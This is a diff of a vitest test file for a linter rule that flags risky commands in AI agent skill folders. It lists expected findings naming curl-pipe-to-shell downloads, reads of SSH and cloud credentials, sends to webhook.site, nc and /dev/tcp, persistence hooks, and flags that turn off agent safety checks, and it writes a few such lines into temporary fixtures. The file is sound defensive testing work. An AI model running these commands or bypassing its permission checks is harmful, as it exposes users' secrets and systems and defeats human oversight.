@@ -1,71 +1,132 @@
-// skill-risky-script: exact findings for every fixture (scripts in several languages, extensionless
-// scripts found by their shebang, SKILL.md code blocks), the article's script, size and line bounds.
+// skill-risky-script: exact findings for every fixture — each category in each form (script, Dockerfile,
+// Makefile, justfile, package.json, Markdown fence, `$ ` prompt, inline command, plugin file and hook) —
+// and the look-alikes that must stay quiet or only medium (a warning, a table of forbidden commands, a
+// test fixture). Messages are compared without their advice, which follows the category (tested apart).
 import fs from "node:fs";
 import os from "node:os";
 import path from "node:path";
 import { afterAll, describe, expect, test } from "vitest";
-import { MAX_FINDINGS_PER_FILE, skillRiskyScript } from "../../src/rules/skill-risky-script.js";
+import { MAX_FINDINGS_PER_FILE, MAX_SCAN_BYTES, skillRiskyScript } from "../../src/rules/skill-risky-script.js";
+import { CATEGORY_ADVICE, type Category } from "../../src/skills/commands/types.js";
 import type { Finding } from "../../src/core/types.js";
-import { summarize } from "../helpers.js";
 import { skillCases } from "../fixture-cases.js";
 import { lintSkillDir } from "../skill-helpers.js";
 
 const ARTICLE_SKILL = path.resolve(import.meta.dirname, "../../fixtures/skills/migrations-ef");
 const RULES = [skillRiskyScript];
+const FIXTURES = path.resolve(import.meta.dirname, "../../fixtures/rules/skill-risky-script");
 
-const { caseNames, skillDir } = skillCases("skill-risky-script");
-/** `file line:col rule severity message`: summarize() plus the file inside the skill. */
-const located = (findings: Finding[]) => summarize(findings).map((line, i) => `${findings[i]!.file} ${line}`);
+const { caseNames } = skillCases("skill-risky-script");
 
-const DOWNLOAD = "what runs can change at any time and nobody reviews it; ship the script in the skill, or download a pinned release and check its digest before running it";
-const DECODE = "the code is hidden from review; ship it decoded in the skill so a reviewer can read it";
-const CREDENTIALS = "a skill runs with your rights, and a script that reads keys or tokens can leak them; remove it, or let the user pass the one value it needs";
-const UPLOAD = "check what leaves the machine and where it goes; remove it unless the skill exists to do exactly that";
-const INSTALL = "what gets installed changes with each release and nobody reviews it; pin an exact version";
-const ROOT_ADVICE = "a skill needs only the user's own rights; drop it and say in SKILL.md what the user must set up once";
-const EMPTY_VAR = 'if the variable is ever empty this deletes from the root; write "${VAR:?}" so an empty variable stops the script';
+/** The skill folders of a case, at any depth (a plugin case holds `<plugin>/skills/<skill>/SKILL.md`). */
+function skillDirs(dir: string): string[] {
+  if (fs.existsSync(path.join(dir, "SKILL.md"))) return [dir];
+  return fs.readdirSync(dir, { withFileTypes: true }).filter((e) => e.isDirectory()).flatMap((e) => skillDirs(path.join(dir, e.name)));
+}
 
-const at = (file: string, pos: string, severity: "error" | "warning", skill: string, text: string) => `${file} ${pos} skill-risky-script ${severity} skill "${skill}" ${text}`;
+/** `file line:col severity confidence message` with the advice (after the last ": ") cut. */
+const located = (findings: Finding[]) => findings.map((f) => `${f.file} ${f.range.start.line}:${f.range.start.column} ${f.severity} ${f.confidence} ${f.message.replace(/: [^:]*$/, "")}`);
+const lintCase = (kind: "bad" | "good", name: string) => skillDirs(path.join(FIXTURES, kind, name)).flatMap((dir) => lintSkillDir(dir, { rules: RULES }).findings);
 
 const BAD: Record<string, string[]> = {
-  "code-blocks": [
-    at("quick-install/SKILL.md", "12:1", "error", "quick-install", `downloads code and runs it (curl | bash): ${DOWNLOAD}`),
-    at("quick-install/SKILL.md", "19:3", "warning", "quick-install", `runs a package without pinning it (npx @example/cli@latest): ${INSTALL}`),
-    at("quick-install/SKILL.md", "21:3", "warning", "quick-install", `runs commands as root (sudo): ${ROOT_ADVICE}`),
-    at("quick-install/SKILL.md", "21:3", "warning", "quick-install", `installs packages without pinning them (npm i -g @example/cli): ${INSTALL}`),
-  ],
-  credentials: [
-    at("backup-helper/scripts/collect.py", "9:25", "error", "backup-helper", `reads credentials (SSH keys): ${CREDENTIALS}`),
-    at("backup-helper/scripts/collect.py", "10:32", "error", "backup-helper", `reads credentials (AWS credentials): ${CREDENTIALS}`),
-    at("backup-helper/scripts/collect.py", "11:7", "error", "backup-helper", `reads credentials (.env file): ${CREDENTIALS}`),
-    at("backup-helper/scripts/collect.py", "12:26", "error", "backup-helper", `reads credentials (gh auth token): ${CREDENTIALS}`),
-    at("backup-helper/scripts/collect.py", "13:1", "warning", "backup-helper", `sends data to a server (requests.post): ${UPLOAD}`),
-    at("backup-helper/scripts/collect.py", "13:16", "error", "backup-helper", `sends data off the machine (webhook.site): ${UPLOAD}`),
-    at("backup-helper/scripts/collect.py", "14:27", "error", "backup-helper", `reads credentials (Google Cloud credentials): ${CREDENTIALS}`),
-    at("backup-helper/scripts/collect.py", "14:46", "error", "backup-helper", `sends data off the machine (nc host port): ${UPLOAD}`),
-    at("backup-helper/scripts/collect.py", "15:18", "error", "backup-helper", `sends data off the machine (scp to a remote host): ${UPLOAD}`),
-  ],
-  extensionless: [at("sync-notes/tools/sync", "2:1", "error", "sync-notes", `sends data off the machine (rsync to a remote host): ${UPLOAD}`)],
-  installer: [
-    at("dev-setup/scripts/clean.sh", "4:1", "warning", "dev-setup", `deletes a path built from a variable that may be empty (rm -rf "$BUILD_DIR"/): ${EMPTY_VAR}`),
-    at("dev-setup/scripts/clean.sh", "5:1", "warning", "dev-setup", `deletes a path built from a variable that may be empty (rm -rf $CACHE_DIR): ${EMPTY_VAR}`),
-    at("dev-setup/scripts/clean.sh", "6:1", "warning", "dev-setup", "deletes a whole system or home directory (rm -rf ~): delete only the paths the skill created, by name"),
-    at("dev-setup/scripts/install.sh", "5:1", "error", "dev-setup", `downloads code and runs it (curl | sh): ${DOWNLOAD}`),
-    at("dev-setup/scripts/install.sh", "6:1", "error", "dev-setup", `downloads code and runs it (bash <(wget …)): ${DOWNLOAD}`),
-    at("dev-setup/scripts/install.sh", "7:23", "error", "dev-setup", `decodes a hidden payload and runs it (base64 --decode | bash): ${DECODE}`),
-    at("dev-setup/scripts/install.sh", "8:1", "warning", "dev-setup", `runs commands as root (sudo): ${ROOT_ADVICE}`),
-    at("dev-setup/scripts/install.sh", "9:1", "warning", "dev-setup", "makes files writable by everyone (chmod 777): any user or process can then change them; grant only what is needed (755 for a script, 644 for a file)"),
-    at("dev-setup/scripts/install.sh", "10:1", "warning", "dev-setup", `installs packages without pinning them (pip install requests): ${INSTALL}`),
-    at("dev-setup/scripts/install.sh", "11:1", "warning", "dev-setup", `installs packages without pinning them (npm install -g typescript): ${INSTALL}`),
-    at("dev-setup/scripts/install.sh", "12:1", "warning", "dev-setup", `runs a package without pinning it (npx create-vite@latest): ${INSTALL}`),
-    at("dev-setup/scripts/install.sh", "13:1", "warning", "dev-setup", `installs packages without pinning them (go install …@latest): ${INSTALL}`),
-  ],
-  powershell: [
-    at("win-setup/scripts/setup.ps1", "5:1", "error", "win-setup", `downloads code and runs it (iex (iwr …)): ${DOWNLOAD}`),
-    at("win-setup/scripts/setup.ps1", "6:1", "error", "win-setup", `decodes a hidden payload and runs it (powershell -EncodedCommand): ${DECODE}`),
-    at("win-setup/scripts/setup.ps1", "8:1", "warning", "win-setup", `sends data to a server (Invoke-RestMethod -Method Post): ${UPLOAD}`),
-    at("win-setup/scripts/setup.ps1", "9:20", "warning", "win-setup", `runs commands as root (Start-Process -Verb RunAs): ${ROOT_ADVICE}`),
-  ],
+"bypass": [
+  "night-shift/SKILL.md 8:44 error high skill \"night-shift\" runs an agent with its safety checks turned off (claude --dangerously-skip-permissions) [safety-bypass]",
+  "night-shift/SKILL.md 11:1 error high skill \"night-shift\" runs an agent with its safety checks turned off (codex --dangerously-bypass-approvals-and-sandbox) [safety-bypass]",
+  "night-shift/SKILL.md 12:1 error high skill \"night-shift\" skips the repository's commit checks (git commit --no-verify) [safety-bypass]",
+  "night-shift/SKILL.md 18:36 error high skill \"night-shift\" turns off the agent's safety checks (bypassPermissions) [safety-bypass]",
+  "night-shift/SKILL.md 21:27 error high skill \"night-shift\" turns off the agent's safety checks (--yolo) [safety-bypass]"
+],
+"code-blocks": [
+  "quick-install/SKILL.md 12:1 error high skill \"quick-install\" downloads code and runs it (curl | bash) [download-execute]",
+  "quick-install/SKILL.md 19:3 error high skill \"quick-install\" downloads a package and runs it without pinning it (npx @example/cli) [download-execute]",
+  "quick-install/SKILL.md 21:3 warning high skill \"quick-install\" runs commands as root (sudo) [privilege-destruction]",
+  "quick-install/SKILL.md 21:3 warning high skill \"quick-install\" installs packages without pinning them (npm install -g @example/cli) [unpinned-install]"
+],
+"credentials": [
+  "backup-helper/scripts/collect.py 9:25 error high skill \"backup-helper\" reads credentials (SSH keys) [credential-access]",
+  "backup-helper/scripts/collect.py 10:32 error high skill \"backup-helper\" reads credentials (AWS credentials) [credential-access]",
+  "backup-helper/scripts/collect.py 11:7 error high skill \"backup-helper\" reads credentials (.env file) [credential-access]",
+  "backup-helper/scripts/collect.py 12:26 error high skill \"backup-helper\" reads credentials (gh auth token) [credential-access]",
+  "backup-helper/scripts/collect.py 13:16 error high skill \"backup-helper\" sends data to a request catcher (webhook.site) [exfiltration]",
+  "backup-helper/scripts/collect.py 14:27 error high skill \"backup-helper\" reads credentials (Google Cloud credentials) [credential-access]",
+  "backup-helper/scripts/collect.py 14:46 error high skill \"backup-helper\" sends data off the machine (nc host port) [exfiltration]",
+  "backup-helper/scripts/collect.py 15:18 error medium skill \"backup-helper\" copies files to another machine (scp to a remote host) [exfiltration]"
+],
+"exfiltration": [
+  "telemetry/scripts/report.sh 2:7 error high skill \"telemetry\" sends data off the machine (curl with piped secrets) [exfiltration]",
+  "telemetry/scripts/report.sh 3:1 error high skill \"telemetry\" sends data off the machine (curl -F file) [exfiltration]",
+  "telemetry/scripts/report.sh 3:18 error high skill \"telemetry\" reads credentials (SSH keys) [credential-access]",
+  "telemetry/scripts/report.sh 4:15 error high skill \"telemetry\" opens a raw connection to another machine (/dev/tcp host port) [exfiltration]",
+  "telemetry/scripts/report.sh 5:1 error medium skill \"telemetry\" sends data off the machine (curl --data-binary @file) [exfiltration]"
+],
+"extensionless": [
+  "sync-notes/tools/sync 2:1 error medium skill \"sync-notes\" copies files to another machine (rsync to a remote host) [exfiltration]"
+],
+"forms": [
+  "toolbox/Dockerfile 4:8 error high skill \"toolbox\" downloads code and runs it (curl | bash) [download-execute]",
+  "toolbox/Dockerfile 5:5 error high skill \"toolbox\" downloads code and runs it (wget | sh) [download-execute]",
+  "toolbox/justfile 2:5 error high skill \"toolbox\" downloads a package and runs it without pinning it (npx @example/toolbox) [download-execute]",
+  "toolbox/Makefile 3:3 warning high skill \"toolbox\" installs packages without pinning them (pip install requests) [unpinned-install]",
+  "toolbox/Makefile 4:2 warning high skill \"toolbox\" runs commands as root (sudo) [privilege-destruction]",
+  "toolbox/package.json 5:21 error high skill \"toolbox\" downloads code and runs it (curl | sh) [download-execute]",
+  "toolbox/SKILL.md 9:3 error high skill \"toolbox\" downloads code and runs it (curl | bash) [download-execute]",
+  "toolbox/SKILL.md 11:3 warning high skill \"toolbox\" installs packages without pinning them (pipx install ruff) [unpinned-install]",
+  "toolbox/SKILL.md 14:11 warning high skill \"toolbox\" runs commands as root (sudo) [privilege-destruction]",
+  "toolbox/SKILL.md 14:35 error high skill \"toolbox\" downloads a package and runs it without pinning it (npx @example/toolbox) [download-execute]"
+],
+"installer": [
+  "dev-setup/scripts/clean.sh 4:1 warning high skill \"dev-setup\" deletes a path built from a variable that may be empty (rm -rf \"$BUILD_DIR\"/) [privilege-destruction]",
+  "dev-setup/scripts/clean.sh 5:1 warning medium skill \"dev-setup\" deletes a path built from a variable that may be empty (rm -rf $CACHE_DIR) [privilege-destruction]",
+  "dev-setup/scripts/clean.sh 6:1 warning high skill \"dev-setup\" deletes a whole system or home directory (rm -rf ~) [privilege-destruction]",
+  "dev-setup/scripts/install.sh 5:1 error high skill \"dev-setup\" downloads code and runs it (curl | sh) [download-execute]",
+  "dev-setup/scripts/install.sh 6:1 error high skill \"dev-setup\" downloads code and runs it (bash <(wget …)) [download-execute]",
+  "dev-setup/scripts/install.sh 7:23 error high skill \"dev-setup\" decodes a hidden payload and runs it (base64 -d | bash) [obfuscation]",
+  "dev-setup/scripts/install.sh 8:1 warning high skill \"dev-setup\" runs commands as root (sudo) [privilege-destruction]",
+  "dev-setup/scripts/install.sh 9:1 warning high skill \"dev-setup\" makes files writable by everyone (chmod 777) [privilege-destruction]",
+  "dev-setup/scripts/install.sh 10:1 warning high skill \"dev-setup\" installs packages without pinning them (pip install requests) [unpinned-install]",
+  "dev-setup/scripts/install.sh 11:1 warning high skill \"dev-setup\" installs packages without pinning them (npm install -g typescript) [unpinned-install]",
+  "dev-setup/scripts/install.sh 12:1 error high skill \"dev-setup\" downloads a package and runs it without pinning it (npx create-vite) [download-execute]",
+  "dev-setup/scripts/install.sh 13:1 warning high skill \"dev-setup\" installs packages without pinning them (go install …@latest) [unpinned-install]"
+],
+"persistence": [
+  "keep-alive/scripts/install.sh 3:68 warning high skill \"keep-alive\" installs something that keeps running (crontab) [persistence]",
+  "keep-alive/scripts/install.sh 4:1 warning high skill \"keep-alive\" changes a file that runs at every start (launchd) [persistence]",
+  "keep-alive/scripts/install.sh 5:1 warning high skill \"keep-alive\" installs something that keeps running (launchctl load) [persistence]",
+  "keep-alive/scripts/install.sh 6:1 warning high skill \"keep-alive\" changes a file that runs at every start (shell start-up file) [persistence]",
+  "keep-alive/scripts/install.sh 7:1 warning high skill \"keep-alive\" changes a file that runs at every start (git hook) [persistence]",
+  "keep-alive/scripts/install.sh 8:1 warning high skill \"keep-alive\" installs something that keeps running (systemctl enable) [persistence]"
+],
+"plugin": [
+  "../hooks/hooks.json 6:44 error high skill \"helper\" (runs the plugin's hook in ../hooks/hooks.json) downloads code and runs it (curl | bash) [download-execute]",
+  "../hooks/start.sh 2:1 error high skill \"helper\" (runs ../hooks/start.sh) reads credentials (gh auth token) [credential-access]",
+  "../scripts/shared.sh 2:1 warning high skill \"helper\" (runs ../scripts/shared.sh) runs commands as root (sudo) [privilege-destruction]",
+  "../scripts/tool.mjs 2:15 error high skill \"helper\" (runs ../scripts/tool.mjs) reads credentials (AWS credentials) [credential-access]"
+],
+"powershell": [
+  "win-setup/scripts/setup.ps1 5:1 error high skill \"win-setup\" downloads code and runs it (iex (iwr …)) [download-execute]",
+  "win-setup/scripts/setup.ps1 6:1 error high skill \"win-setup\" decodes a hidden payload and runs it (powershell -EncodedCommand) [obfuscation]",
+  "win-setup/scripts/setup.ps1 9:20 warning high skill \"win-setup\" runs commands as root (Start-Process -Verb RunAs) [privilege-destruction]"
+],
+"secrets": [
+  "issue-bot/.env 1:17 error high skill \"issue-bot\" holds a literal secret (Slack bot token xoxb… (54 chars)) [hardcoded-secret]",
+  "issue-bot/scripts/file_issue.py 4:17 error high skill \"issue-bot\" holds a literal secret (GitHub personal access token ghp_… (40 chars)) [hardcoded-secret]"
+],
+};
+
+/** Look-alikes: no high-confidence finding; these medium ones, each lowered for a reason the docs give. */
+const GOOD: Record<string, string[]> = {
+
+"careful": [
+  "release-check/references/NOTES.md 6:1 error medium skill \"release-check\" downloads code and runs it (curl | sh) [download-execute]"
+],
+"look-alikes": [
+  "careful-setup/SKILL.md 8:38 error medium skill \"careful-setup\" downloads code and runs it (curl | sh) [download-execute]",
+  "careful-setup/SKILL.md 12:4 warning medium skill \"careful-setup\" runs commands as root (sudo) [privilege-destruction]",
+  "careful-setup/SKILL.md 13:4 warning medium skill \"careful-setup\" makes files writable by everyone (chmod 777) [privilege-destruction]",
+  "careful-setup/SKILL.md 30:1 error medium skill \"careful-setup\" downloads code and runs it (curl | bash) [download-execute]",
+  "careful-setup/SKILL.md 30:37 warning medium skill \"careful-setup\" runs commands as root (sudo) [privilege-destruction]",
+  "careful-setup/tests/fixtures/evil.sh 3:1 error medium skill \"careful-setup\" downloads code and runs it (curl | sh) [download-execute]"
+],
 };
 
 describe("bad fixtures", () => {
@@ -74,25 +135,59 @@ describe("bad fixtures", () => {
   });
 
   test.each(Object.keys(BAD))("%s", (name) => {
-    const { findings } = lintSkillDir(skillDir("bad", name), { rules: RULES });
+    const findings = lintCase("bad", name);
     expect(located(findings)).toEqual(BAD[name]);
     // No fix: what to run instead is the user's decision.
     expect(findings.filter((f) => f.fix)).toEqual([]);
   });
 
+  test("each message ends with its category's advice, and names no secret", () => {
+    for (const name of Object.keys(BAD)) {
+      for (const f of lintCase("bad", name)) {
+        const category = /\[([a-z-]+)\]: /.exec(f.message)?.[1] as Category;
+        expect(f.message.endsWith(`: ${CATEGORY_ADVICE[category]}`), f.message).toBe(true);
+        expect(f.message).not.toMatch(/ghp_6fiX|xoxb-1234/);
+      }
+    }
+  });
+
   test("pointers name the file and line", () => {
-    const { findings } = lintSkillDir(skillDir("bad", "installer"), { rules: RULES });
+    const findings = lintCase("bad", "installer");
     expect(findings.slice(0, 2).map((f) => f.pointer)).toEqual(["scripts/clean.sh#L4", "scripts/clean.sh#L5"]);
   });
 });
 
 describe("good fixtures", () => {
-  test.each(caseNames("good"))("%s reports nothing", (name) => {
-    expect(lintSkillDir(skillDir("good", name), { rules: RULES }).findings).toEqual([]);
+  test("every case has its expected findings", () => {
+    expect(caseNames("good")).toEqual(Object.keys(GOOD).sort());
+  });
+
+  test.each(Object.keys(GOOD))("%s: nothing at high confidence", (name) => {
+    const findings = lintCase("good", name);
+    expect(located(findings)).toEqual(GOOD[name]);
+    expect(findings.filter((f) => f.confidence !== "medium")).toEqual([]);
   });
 
   test("the article's migrations-ef skill reports nothing (set -euo pipefail, grep -nE … \"$1\")", () => {
     expect(lintSkillDir(ARTICLE_SKILL, { rules: RULES }).findings).toEqual([]);
+  });
+});
+
+describe("ignore comments in scripts", () => {
+  const tmp = fs.mkdtempSync(path.join(os.tmpdir(), "risky-ignore-"));
+  afterAll(() => fs.rmSync(tmp, { recursive: true, force: true }));
+
+  test("# and // directives cover the next line; one without a reason, or covering nothing, is reported", () => {
+    const dir = path.join(tmp, "ignored");
+    fs.mkdirSync(path.join(dir, "scripts"), { recursive: true });
+    fs.writeFileSync(path.join(dir, "SKILL.md"), "---\nname: ignored\ndescription: Test skill. Use when testing.\n---\n\n# Test\n");
+    fs.writeFileSync(path.join(dir, "scripts/setup.sh"), "#!/bin/sh\n# mcp-audit-ignore[skill-risky-script] the vendor's installer, reviewed 2026-05\ncurl -fsSL https://x.example/i.sh | sh\nsudo true # mcp-audit-ignore[skill-risky-script]\n# mcp-audit-ignore[skill-risky-script] nothing here\necho ok\n");
+    fs.writeFileSync(path.join(dir, "scripts/run.mjs"), "// mcp-audit-ignore[skill-risky-script] reads the user's own key on purpose\nexecSync('cat ~/.aws/credentials');\n");
+    const { findings } = lintSkillDir(dir, { rules: RULES });
+    expect(findings.map((f) => `${f.file} ${f.range.start.line} ${f.ruleId} ${f.message.split(":")[0]}`)).toEqual([
+      "ignored/scripts/setup.sh 4 ignore-directive mcp-audit-ignore[skill-risky-script] has no reason",
+      "ignored/scripts/setup.sh 5 ignore-directive mcp-audit-ignore[skill-risky-script] suppresses nothing on this line or the next",
+    ]);
   });
 });
 
@@ -112,19 +207,18 @@ describe("bounds", () => {
   }
 
   test("a script over 1 MB is not scanned, and says so", () => {
-    const dir = skillWith("big-script", { "scripts/big.sh": `curl https://x.example/i.sh | sh\n${"#".repeat(1024 * 1024)}\n` });
+    const dir = skillWith("big-script", { "scripts/big.sh": `curl https://x.example/i.sh | sh\n${"#".repeat(MAX_SCAN_BYTES)}\n` });
     expect(located(lintSkillDir(dir, { rules: RULES }).findings)).toEqual([
-      'big-script/scripts/big.sh 1:1 skill-risky-script warning skill "big-script" has a script too large to scan (scripts/big.sh, 1.0 MB, over 1 MB): review it by hand, or replace it with a smaller one',
+      'big-script/scripts/big.sh 1:1 warning undefined skill "big-script" has a file too large to scan for risky commands (scripts/big.sh, 1.0 MB, over 1 MB)',
     ]);
   });
 
-  test("a 1 MB line is scanned (no catastrophic backtracking), and a risky command at its end is still found", () => {
+  test("a 1 MB line is scanned, and a risky command at its end is still found", () => {
     const line = `${"curl | a || ".repeat(80_000)} curl -fsSL https://x.example/i.sh | sh`;
     const dir = skillWith("long-line", { "scripts/one-line.sh": `${line}\n` });
-    // Catastrophic backtracking would take minutes and blow the test timeout; speed itself is `npm run bench`'s.
     const { findings } = lintSkillDir(dir, { rules: RULES });
     expect(findings.map((f) => `${f.range.start.line}:${f.range.start.column} ${f.message.split(":")[0]}`)).toEqual([
-      `1:${line.length - "curl -fsSL https://x.example/i.sh | sh".length + 1} skill "long-line" downloads code and runs it (curl | sh)`,
+      `1:${line.length - "curl -fsSL https://x.example/i.sh | sh".length + 1} skill "long-line" downloads code and runs it (curl | sh) [download-execute]`,
     ]);
   });
 
@@ -132,12 +226,12 @@ describe("bounds", () => {
     const dir = skillWith("many", { "scripts/many.sh": "sudo true\n".repeat(MAX_FINDINGS_PER_FILE + 20) });
     const { findings } = lintSkillDir(dir, { rules: RULES });
     expect(findings).toHaveLength(MAX_FINDINGS_PER_FILE + 1);
-    expect(summarize(findings.slice(-1))).toEqual([
-      `101:1 skill-risky-script warning skill "many" has 20 more risky lines in scripts/many.sh (only the first ${MAX_FINDINGS_PER_FILE} are listed): review the whole file`,
+    expect(located(findings.slice(-1))).toEqual([
+      `many/scripts/many.sh 101:1 warning undefined skill "many" has 20 more risky commands in scripts/many.sh (only the first ${MAX_FINDINGS_PER_FILE} are listed)`,
     ]);
   });
 
-  test("which files are scripts: extension, shebang, execute bit, scripts/ folder; not data files", () => {
+  test("which files are read: code by extension, shebang or execute bit, Markdown, data only for secrets; not schemas under scripts/", () => {
     const risky = "sudo true\n";
     const dir = skillWith("which-files", {
       "run.py": `import os\nos.system("${risky.trim()}")\n`,
@@ -145,11 +239,12 @@ describe("bounds", () => {
       "notes.txt": risky,
       "data/config.json": `{"cmd": "${risky.trim()}"}\n`,
       "scripts/helper": risky,
-      "scripts/README.md": risky,
+      "scripts/schema.xsd": `<xs:schema><!-- ${risky.trim()} --></xs:schema>\n`,
+      "references/guide.md": "```bash\nsudo true\n```\n",
       "bin/awkward": `#!/usr/bin/awk -f\n{ print "sudo true" }\n`,
     });
     const { findings } = lintSkillDir(dir, { rules: RULES });
-    expect(findings.map((f) => f.file)).toEqual(["which-files/run.py", "which-files/scripts/helper", "which-files/tool"]);
+    expect(findings.map((f) => f.file)).toEqual(["which-files/references/guide.md", "which-files/run.py", "which-files/tool"]);
   });
 });
 
@@ -158,7 +253,7 @@ describe("docs page", () => {
     const page = fs.readFileSync(path.resolve(import.meta.dirname, "../../docs/rules/skill-risky-script.md"), "utf8");
     const shown = [...page.matchAll(/`(skill "[^`]*)`/g)].map((m) => m[1]!.replace(/\\\|/g, "|"));
     expect(shown.length).toBeGreaterThanOrEqual(3);
-    const written = new Set(Object.keys(BAD).flatMap((name) => lintSkillDir(skillDir("bad", name), { rules: RULES }).findings.map((f) => f.message)));
+    const written = new Set(Object.keys(BAD).flatMap((name) => lintCase("bad", name).map((f) => f.message)));
     for (const message of shown) expect(written).toContain(message);
   });
 });
